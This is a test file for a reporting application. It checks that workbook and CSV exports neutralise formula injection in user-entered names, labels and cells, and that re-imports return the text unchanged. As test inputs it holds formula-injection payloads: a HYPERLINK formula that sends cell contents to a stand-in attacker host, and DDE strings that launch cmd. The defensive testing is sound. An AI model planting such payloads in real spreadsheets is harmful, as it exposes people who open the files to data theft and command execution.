/**
 * Formula injection (issue 8): text that users typed — a unit name, an indicator name, a template's
 * row label and column header, a text cell of a report — must never become a live formula in an
 * exported workbook or CSV file. Each export is read back: no cell holding user text is a formula,
 * and no text starts with = + - @ (it carries a leading apostrophe instead). Our own formulas in
 * the report form (computed cells) stay formulas. Importing our export gives the text back as typed.
 */
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { authAs, call, makeUser, type Auth } from '../../test/factories.js';
import { useTestApp } from '../../test/harness.js';
import { adHocRequest, makeCity } from '../../test/reporting.fixtures.js';
import { sampleTemplate } from '../../test/templates.fixtures.js';
import { parseCsv } from './tabular.js';

const t = useTestApp();

const UNIT_NAME = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")';
const INDICATOR_NAME = '@SUM(1+1)*cmd|\' /C calc\'!A0';
const ROW_LABEL = '+cmd|\' /C notepad\'!A0';
const HEADER = '-2+3+HYPERLINK("http://ke-gian.example")';
const CELL_TEXT = '=HYPERLINK("http://ke-gian.example","Chi tiết")';
const INJECTED = [UNIT_NAME, INDICATOR_NAME, ROW_LABEL, HEADER, CELL_TEXT];

type Seen = { sheet: string; address: string; type: ExcelJS.ValueType; text: string; formula: string | null };

async function cellsOf(buffer: Buffer): Promise<Seen[]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  const out: Seen[] = [];
  wb.eachSheet((ws) =>
    ws.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) => {
        const v = cell.value;
        const text = typeof v === 'string' ? v : v && typeof v === 'object' && 'richText' in v ? v.richText.map((r) => r.text).join('') : '';
        out.push({ sheet: ws.name, address: cell.address, type: cell.type, text, formula: cell.type === ExcelJS.ValueType.Formula ? cell.formula : null });
      }),
    ),
  );
  return out;
}

/** No user text is live: every injected string appears only as text behind an apostrophe; formulas (ours) never carry it. */
function expectNeutral(cells: Seen[], expected: string[]) {
  for (const c of cells) {
    if (c.formula !== null) {
      for (const bad of INJECTED) expect(c.formula, `${c.sheet}!${c.address}`).not.toContain(bad.slice(1, 12));
      continue;
    }
    expect(c.text, `${c.sheet}!${c.address}`).not.toMatch(/^[=+@\t\r]/);
    if (/^-/.test(c.text)) expect(c.text, `${c.sheet}!${c.address}`).toMatch(/^-?\d+(\.\d+)?$/);
  }
  for (const text of expected) {
    const hit = cells.find((c) => c.text.includes(text.slice(0, 12)));
    expect(hit, `"${text}" in the export`).toBeDefined();
    expect(hit!.type).not.toBe(ExcelJS.ValueType.Formula);
    expect(hit!.text.startsWith(`'${text.slice(0, 12)}`) || hit!.text.includes(` ${text.slice(0, 12)}`) || hit!.text.includes(`(${text.slice(0, 12)}`), hit!.text).toBe(true);
  }
}

async function download(auth: Auth, url: string): Promise<Buffer> {
  const res = await t.app.inject({ method: 'GET', url, headers: auth.headers });
  expect(res.statusCode, `${url}: ${res.body.slice(0, 300)}`).toBe(200);
  return res.rawPayload;
}

describe('formula injection in exports', () => {
  it('neutralises user text in every workbook and CSV export, and imports it back unchanged', async () => {
    t.clock.set('2026-12-01T02:00:00Z');
    const c = await makeCity(t);
    const admin = await authAs(t, await makeUser(t.db, c.city, 'system_admin'));

    // A unit name.
    const unit = await call(t.app, 'POST', '/api/v1/units', { auth: admin, body: { code: 'INJ-1', name: UNIT_NAME, kind: 'department', parentId: c.city.id } });
    expect(unit.status, JSON.stringify(unit.json)).toBe(201);
    const unitsXlsx = await cellsOf(await download(admin, `/api/v1/units/export?format=xlsx&rootId=${c.city.id}`));
    expectNeutral(unitsXlsx, [UNIT_NAME]);
    const unitsCsv = (await download(admin, `/api/v1/units/export?format=csv&rootId=${c.city.id}`)).toString('utf8');
    expect(unitsCsv).toContain(`"'=HYPERLINK(`);
    expect(parseCsv(unitsCsv).some((r) => r.includes(`'${UNIT_NAME}`))).toBe(true);

    // An indicator name.
    const set = await call(t.app, 'POST', '/api/v1/catalog/sets', { auth: admin, body: { code: 'BCT-INJ', name: 'Bộ chỉ tiêu thử', ownerUnitId: c.department.id } });
    expect(set.status, JSON.stringify(set.json)).toBe(201);
    const indicator = await call(t.app, 'POST', '/api/v1/catalog/indicators', { auth: admin, body: { setId: set.json.id, code: 'CT-INJ', name: INDICATOR_NAME, periodicity: ['year'] } });
    expect(indicator.status, JSON.stringify(indicator.json)).toBe(201);
    expectNeutral(await cellsOf(await download(admin, `/api/v1/catalog/sets/${set.json.id}/export?format=xlsx`)), [INDICATOR_NAME]);
    expect((await download(admin, `/api/v1/catalog/sets/${set.json.id}/export?format=csv`)).toString('utf8')).toContain(`'@SUM(1+1)`);

    // A template's row label and column header, then a report's text cell on that template.
    const tpl = sampleTemplate(c.department.id);
    tpl.definition.grid.rows[1]!.name = ROW_LABEL;
    tpl.definition.grid.columns[3]!.headerPath = [HEADER];
    const created = await call(t.app, 'POST', '/api/v1/templates', { auth: c.designerAuth, body: tpl });
    expect(created.status, JSON.stringify(created.json)).toBe(201);
    const templateXlsx = await download(c.designerAuth, `/api/v1/templates/${created.json.id}/export?format=xlsx`);
    expectNeutral(await cellsOf(templateXlsx), [ROW_LABEL, HEADER]);
    const reimported = await call(t.app, 'POST', '/api/v1/templates/import', { auth: c.designerAuth, body: { format: 'xlsx', contentBase64: templateXlsx.toString('base64'), requestingUnitId: c.department.id, code: `${tpl.info.code}-X` } });
    expect(reimported.status, JSON.stringify(reimported.json)).toBe(201);
    expect(reimported.json.definition).toEqual(created.json.definition);

    const publisher = await authAs(t, await makeUser(t.db, c.department, 'leader'));
    await call(t.app, 'POST', `/api/v1/templates/${created.json.id}/transition`, { auth: c.designerAuth, body: { to: 'testing', revision: 1 } });
    expect((await call(t.app, 'POST', `/api/v1/templates/${created.json.id}/transition`, { auth: publisher, body: { to: 'official', revision: 2 } })).json.status).toBe('official');
    const regime = await call(t.app, 'POST', '/api/v1/regimes', { auth: c.designerAuth, body: adHocRequest(c, { templateIds: [created.json.id] }) });
    expect(regime.status, JSON.stringify(regime.json)).toBe(201);
    const ward = await authAs(t, c.specialists[0]!);
    const id = (await call(t.app, 'GET', '/api/v1/inbox', { auth: ward })).json.items.find((i: { regimeId: string }) => i.regimeId === regime.json.id).id as string;
    const saved = await call(t.app, 'PUT', `/api/v1/assignments/${id}/values`, { auth: ward, body: { baseVersion: 0, changes: { 'R01!GC': CELL_TEXT, 'R01!KH': '-12.5' } } });
    expect(saved.status, JSON.stringify(saved.json)).toBe(200);
    const form = await download(ward, `/api/v1/assignments/${id}/form.xlsx`);
    const formCells = await cellsOf(form);
    expectNeutral(formCells, [ROW_LABEL, HEADER, CELL_TEXT]);
    // Our computed cells are still real formulas, and a negative number is still a number.
    expect(formCells.some((x) => x.formula !== null)).toBe(true);
    expect(formCells.some((x) => x.type === ExcelJS.ValueType.Number)).toBe(true);
    // Uploading the downloaded form unchanged gives the text back as typed.
    const upload = await call(t.app, 'POST', `/api/v1/assignments/${id}/upload`, { auth: ward, body: { format: 'xlsx', contentBase64: form.toString('base64'), version: saved.json.version } });
    expect(upload.status, JSON.stringify(upload.json)).toBe(200);
    expect(upload.json.inputs).toMatchObject({ 'R01!GC': CELL_TEXT, 'R01!KH': '-12.5' });
    const csv = (await download(ward, `/api/v1/assignments/${id}/form.csv`)).toString('utf8');
    expect(csv).toContain(`"'=HYPERLINK(`);
    expect(csv).not.toMatch(/(^|,)"?[=+@]/m);
  });
});
